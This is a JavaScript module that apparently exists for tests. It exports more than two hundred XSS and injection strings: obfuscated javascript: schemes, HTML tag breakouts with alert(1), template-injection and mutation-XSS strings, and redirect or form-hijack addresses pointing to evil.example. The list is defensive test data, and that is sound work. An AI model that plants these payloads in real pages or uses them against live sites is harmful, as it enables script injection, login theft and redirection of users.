const SCHEMES = ['javascript:', 'data:text/html,', 'vbscript:', 'JaVaScRiPt:', 'feed:javascript:', 'blob:', 'file:///'];
const BEFORE = ['', '\0', '\u200b', ' ', '\t', '\n', '\u0001', '\u00a0', '\ufeff'];

const HIDDEN_SCHEMES = SCHEMES.flatMap((scheme) => BEFORE.map((before) => `${before}${scheme}alert(1)`));

const ADDRESSES = [
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'java\r\nscript:alert(1)',
  'java\0script:alert(1)',
  'javascript&colon;alert(1)',
  '&#106;avascript:alert(1)',
  'javascript:/*--></title></style></textarea></script><svg onload=alert(1)>',
  ...['//', '/\\', '\\\\', '///', '/\t/', '\t//', 'https:', 'https:/', 'https:///', 'http:\\\\'].map(
    (a) => `${a}evil.example`,
  ),
  'https://user:password@evil.example',
  'https://example.com@evil.example/',
  'https://evil.example/"onmouseover="alert(1)',
  "https://evil.example/'><script>alert(1)</script>",
];

const BREAKS = ['', '"', "'", '">', "'>", '`>', '-->', '</p>', '</label>', '\0', ']]>'];
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  ' onfocus=alert(1) autofocus x=',
  '</form><form action="https://evil.example">',
  '<style>@import "//evil.example"</style>',
  '<base href="//evil.example">',
];

const ODDITIES = [
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '<%= 7 * 7 %>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&quot; onclick=alert(1)',
  '\" onclick=\"alert(1)',
  '<!--',
  '<!DOCTYPE html>',
  '<plaintext>',
  '<xmp>',
  '</section></main></body></html>',
  '<input type=password value=x>',
  '" autofocus onfocus=alert(1) "',
  "' style='position:fixed;inset:0",
  '<details open ontoggle=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '\u202etxt.exe\u202c',
  '\ud800',
  '\uffff',
  '＜script＞alert(1)＜/script＞',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '__proto__',
  'constructor',
  'toString',
  '{name}{hint}{count}',
  'x'.repeat(500),
  '😀'.repeat(100),
];

/** 200 and more texts that somebody might try to break out of a page with. */
export const HOSTILE: readonly string[] = [
  ...new Set([
    ...HIDDEN_SCHEMES,
    ...ADDRESSES,
    ...BREAKS.flatMap((before) => PAYLOADS.map((payload) => before + payload)),
    ...ODDITIES,
  ]),
];

/** All of it in fewer texts, for what is no address: each way out with every payload in a row, each scheme once. */
export const HOSTILE_IN_FEWER: readonly string[] = [
  ...SCHEMES.map((scheme) => `${scheme}alert(1)`),
  ...ADDRESSES,
  ...BREAKS.map((before) => PAYLOADS.map((payload) => before + payload).join('')),
  ...ODDITIES,
];
